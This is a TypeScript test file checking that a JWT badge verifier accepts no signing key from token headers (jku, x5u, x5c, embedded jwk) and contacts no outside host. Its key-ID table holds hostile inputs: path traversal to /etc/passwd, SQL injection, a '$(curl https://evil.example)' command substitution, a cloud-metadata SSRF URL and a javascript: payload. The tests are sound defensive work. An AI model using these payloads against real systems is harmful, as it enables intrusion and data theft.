import { afterAll, describe, expect, it } from 'vitest';
import type { JsonObject } from '#kernel';
import { createContextLoader, createJwtChecker, openJwt } from '#proofs';
import { documentOf, multikey, web } from '../identifiers/support/web.ts';
import { handToken, obClaims, tokenKey } from '../proofs/jose/tokens.ts';
import { goldenBadge, ISSUER, TEST_PH_CONTEXT, TEST_PH_URL } from '../support/golden-badge.ts';

const loader = createContextLoader({ phContext: TEST_PH_CONTEXT, phContextUrl: TEST_PH_URL });
const checker = createJwtChecker({ loader, clock: { now: () => new Date('2026-11-24T00:00:00Z') } });
afterAll(() => checker.close());
const mine = tokenKey('ES256', `${ISSUER}#key-1`);
const evil = tokenKey('ES256', `${ISSUER}#key-1`);
const DOCUMENT = 'https://badges.example.ph/institutions/malayang-kolehiyo/did.json';
const EVIL = 'https://evil.example/keys.json';
const claims = obClaims();

/** Real resolution over a web in which the attacker's address answers with the attacker's key. */
async function verify(header: JsonObject, key = evil, payload: JsonObject = claims) {
  const { state, identifiers } = web({
    [DOCUMENT]: { body: documentOf(ISSUER, { 'key-1': multikey(mine.publicKey) }) },
    [EVIL]: { body: { keys: [{ ...evil.publicKey.jwk, kid: 'x', iss: ISSUER }] } },
  });
  const text = await handToken(key, { alg: 'ES256', ...header }, payload);
  const { outcome, code } = await checker.verify(
    openJwt(text),
    { controller: ISSUER, purpose: 'assertionMethod' },
    (reference, issuer, relationship) => identifiers.resolveJoseKey(reference, issuer, relationship),
  );
  return { answer: `${outcome} ${code}`, foreign: state.asked.filter((url) => url !== DOCUMENT) };
}

const evilJwk = evil.publicKey.jwk;
const x5c = ['MIIB'.padEnd(400, 'A')];

describe('KP-6: a header brings no key', () => {
  it('the web of this test is one in which the right token passes', async () => {
    expect(await verify({ kid: mine.kid }, mine)).toEqual({ answer: 'pass signature_valid', foreign: [] });
    expect(await verify({ jwk: mine.publicKey.jwk }, mine)).toEqual({ answer: 'pass signature_valid', foreign: [] });
  });

  it.each<[string, JsonObject]>([
    ['jku', { jku: EVIL, kid: 'x' }],
    ['jku and the right kid', { jku: EVIL, kid: mine.kid }],
    ['x5u', { x5u: EVIL, kid: mine.kid }],
    ['x5c', { x5c, kid: mine.kid }],
    ['x5c alone', { x5c }],
    ['x5t', { x5t: 'AAAA', 'x5t#S256': 'AAAA', kid: mine.kid }],
    ['an unlisted jwk', { jwk: evilJwk }],
    ['an unlisted jwk with the name of a listed key', { jwk: { ...evilJwk, kid: mine.kid } }],
    ['an unlisted jwk beside the right kid', { jwk: evilJwk, kid: mine.kid }],
    ['a jwk with jku', { jwk: { ...evilJwk, jku: EVIL, x5u: EVIL, iss: ISSUER } }],
    ['a set for a jwk', { jwk: { keys: [evilJwk] } }],
    ['a symmetric jwk', { jwk: { kty: 'oct', k: 'AAAA' } }],
    ['a jwk with its private half', { jwk: { ...evilJwk, d: 'AAAA' } }],
    ['a jwk that is a list', { jwk: [evilJwk] as never }],
    ['a jwk that is a text', { jwk: JSON.stringify(evilJwk) }],
    ['an empty jwk', { jwk: {} }],
    ['no name at all', {}],
  ])('%s', async (_what, header) => {
    for (const typ of [{ typ: 'vc+jwt' }, { typ: 'JWT' }, {}] as JsonObject[]) {
      const { answer, foreign } = await verify({ ...header, ...typ });
      expect(answer).not.toMatch(/^pass/);
      expect(foreign).toEqual([]);
    }
  });

  it('what is not listed says nothing; what is wrong is wrong', async () => {
    const vc = { typ: 'vc+jwt' };
    expect((await verify({ jwk: evilJwk, ...vc })).answer).toBe('unknown key_not_listed');
    expect((await verify({ jwk: evilJwk })).answer).toBe('unknown key_not_listed');
    expect((await verify({ jwk: evilJwk, kid: mine.kid, ...vc })).answer).toBe('fail key_mismatch');
    expect((await verify({ jwk: evilJwk, kid: mine.kid })).answer).toBe('fail key_named_twice');
    expect((await verify({ jwk: { ...evilJwk, d: 'AAAA' } })).answer).toBe('fail private_key_in_header');
    expect((await verify({ jku: EVIL, kid: mine.kid })).answer).toBe('fail header_not_allowed');
    expect((await verify({ jku: EVIL, kid: mine.kid, ...vc })).answer).toBe('fail signature_invalid');
    // Ignored is not refused: with the right key such a token holds.
    expect((await verify({ jku: EVIL, x5u: EVIL, x5c, kid: mine.kid, ...vc }, mine)).answer).toBe(
      'pass signature_valid',
    );
  });

  it.each([
    '../../../../etc/passwd',
    'file:///etc/passwd',
    `${ISSUER}/../evil#key-1`,
    `${ISSUER}:evil#key-1`,
    `${ISSUER}#../key-1`,
    `${ISSUER}#key-1#key-1`,
    `${ISSUER}?x=1#key-1`,
    `${ISSUER}%23key-1`,
    `${ISSUER}\u0000#key-1`,
    "' OR '1'='1",
    "key-1' UNION SELECT 'x' --",
    '$(curl https://evil.example)',
    '`id`',
    '{{7*7}}',
    '%2e%2e%2f',
    'constructor',
    '#__proto__',
    '#constructor',
    '',
    ' ',
    '#',
    'did:web:evil.example#key-1',
    'did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK#z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK',
    'did:jwk:eyJrdHkiOiJFQyJ9#0',
    EVIL,
    `${EVIL}#x`,
    'https://badges.example.ph@evil.example/k',
    'https://badges.example.ph.evil.example/k',
    'http://169.254.169.254/latest/meta-data',
    'https://[::1]/k',
    'javascript:alert(1)',
    'x'.repeat(3_000),
  ])('kid %s names no key of the issuer, and nobody else is asked', async (kid) => {
    for (const typ of [{ typ: 'vc+jwt' }, {}] as JsonObject[]) {
      const { answer, foreign } = await verify({ kid, ...typ });
      expect(answer).not.toMatch(/^pass/);
      expect(foreign).toEqual([]);
    }
  });

  it.each([1, null, true, ['x'], { kid: 'x' }])('kid %j is no name', async (kid) => {
    expect((await verify({ kid } as JsonObject)).answer).toBe('fail key_reference_malformed');
  });

  it('the issuer is the one in the badge, not the one who signs', async () => {
    const badge = { ...goldenBadge(), issuer: { id: 'did:web:evil.example', type: ['Profile'], name: 'x' } };
    // The token of another, for whom the caller asks with the issuer it read.
    expect((await verify({ kid: mine.kid }, mine, { ...obClaims(badge), iss: ISSUER })).answer).toBe(
      'fail iss_mismatch',
    );
    expect((await verify({ kid: mine.kid }, mine, obClaims(badge))).answer).toBe('fail issuer_mismatch');
  });
});
